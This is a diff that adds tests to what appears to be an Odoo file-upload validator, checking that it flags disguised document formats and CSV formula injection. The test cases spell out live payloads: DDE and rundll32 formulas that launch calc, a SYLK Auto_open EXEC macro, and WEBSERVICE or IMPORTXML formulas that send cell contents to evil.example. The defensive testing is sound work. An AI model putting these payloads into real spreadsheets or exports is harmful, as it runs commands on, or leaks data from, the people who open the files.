@@ -17,7 +17,7 @@ from reportlab.pdfgen.canvas import Canvas
 
 from odoo.tests import tagged
 
-from ...tools.file_check import MB, MIMETYPES, Limits, check_file
+from ...tools.file_check import MB, MIMETYPES, Limits, check_file, check_files
 from ...tools.file_names import MAX_BYTES, MAX_LENGTH, clean_name, extension_of
 from ..common.file_check_case import QUICK, FileCase
 from ..common.file_samples import HONEST, ODF_NAMES, PDF, docx, odf, packed, pdf_of, xlsx
@@ -212,6 +212,80 @@ class TestContents(FileCase):
         self.assert_codes("a.txt", "текст".encode("utf-16"), "content")
         self.assert_codes("a.txt", b"a\x1b[31m", "content")
         self.assert_codes("a.txt", b"\x98\xff", "encoding")
+
+    def test_text_of_another_format(self):
+        """Word and Excel open RTF, web archives, mails, SYLK, DIF by their words, not by their name."""
+        for text in (
+            "{\\rtf1{\\object\\objautlink\\objupdate x}}",
+            "\n {\\rt x",
+            "MIME-Version: 1.0\nContent-Type: multipart/related; boundary=x\n\n--x",
+            "From: a@b.rs\nSubject: x\nContent-Type: text/html\n\nx",
+            "x\ncontent-location : file:///C:/x",
+            'ID;P\nO;E\nNN;NAuto_open;ER101C1\nC;X1;Y101;EEXEC("calc.exe")\n',
+            "ID;PWXL;N;E\r\nC;Y1;X1;K1\r\nE",
+            'TABLE\r\n0,1\r\n"EXCEL"\r\n',
+        ):
+            for name in ("a.txt", "a.csv"):
+                with self.subTest(name=name, text=text[:20]):
+                    self.assert_codes(name, text.encode(), "text_format")
+                    self.assert_codes(name, b"\xef\xbb\xbf" + text.encode(), "text_format")
+            self.assert_codes("a.zip", packed({"a.txt": text}), "text_format")
+        for text in (
+            "ID;Product;Quantity\n1;Cheese;5\n",
+            "ID,Name\nC,x",
+            "TABLE\n1,2\n",
+            "From: a@b.rs\nTo: c@d.kz\nSubject: content of the shipment\n\nThe type: cheese.",
+            "x {\\rtf1}",
+        ):
+            self.assert_codes("a.csv", text.encode())
+            self.assert_codes("a.txt", text.encode())
+
+    def test_formulas_in_rows(self):
+        """A program takes cells of a CSV for formulas: those that start something are refused."""
+        for row in (
+            "=cmd|'/c calc'!A0",
+            "x;1;\"=cmd|'/c calc'!A0\";y",
+            "x\t+cmd|'/c calc'!A0",
+            "x,-2+3+cmd|' /C calc'!A0",
+            "@SUM(1)*cmd|'/c calc'!A0",
+            "=rundll32|'URL.dll,OpenURL calc.exe'!A",
+            "＝cmd|'/c calc'!A0",
+            "='кмд'|'/c calc'!A0",
+            '=DDE("cmd";"/C calc";"x")',
+            '"=1+\nWEBSERVICE(""https://evil.example/""&A1)"',
+            '=ВЕБСЛУЖБА("https://evil.example/")',
+            '=WEBDIENST("https://evil.example/")',
+            '-WEBDIENST("https://evil.example/")',
+            '=IMPORTXML(CONCATENATE("https://evil.example/";A1);"//a")',
+            "='\\\\10.0.0.1\\share\\[a.xlsx]A'!A1",
+            "+'file://10.0.0.1/a.ods'#$A.A1",
+            '=HYPERLINK("file://10.0.0.1/a.exe")',
+            "\"x;1\n=cmd|'/c calc'!A0",
+        ):
+            with self.subTest(row=row):
+                self.assert_codes("a.csv", f"name;quantity\n{row}\n".encode(), "text_formula")
+        problem = check_file("a.csv", b"a;b\n1;2\n3;=cmd|'/c calc'!A0").problems[0]
+        self.assertEqual(problem.params, {"row": 3})
+        for row in (
+            "-5;+381 11 123-45;-12,5 %;-",
+            "@firma.rs;+7 (495) 123;- bulk (45 %);- - - other | cheese",
+            "- see https://firma.rs (page 2);-Levi's",
+            '="0402109100";=5;=A1+B2;=SUM(A1:A3);==== Total (EUR) ====',
+            '=HYPERLINK("https://firma.rs";"page")',
+            "5;(12.5);-(3)",
+            "-5|abc|x",
+            "'=cmd|'/c calc'!A0",
+            "a=cmd|b!c",
+        ):
+            with self.subTest(row=row):
+                self.assert_codes("a.csv", f"name;quantity\n{row}\n".encode())
+
+    def test_rows_are_read_by_the_child(self):
+        """A table of millions of dashes ends with the time of the check, and holds no worker."""
+        begun = time.monotonic()
+        checked = check_files([("a.csv", b",-a(" * 4_000_000)], Limits(), 2)
+        self.assertLess(time.monotonic() - begun, 6)
+        self.assertEqual([problem.code for problem in checked[0].problems], ["too_slow"])
 
     def test_markup_in_long_lines_is_found_in_time(self):
         """The search for markup does not grow with the square of the text."""
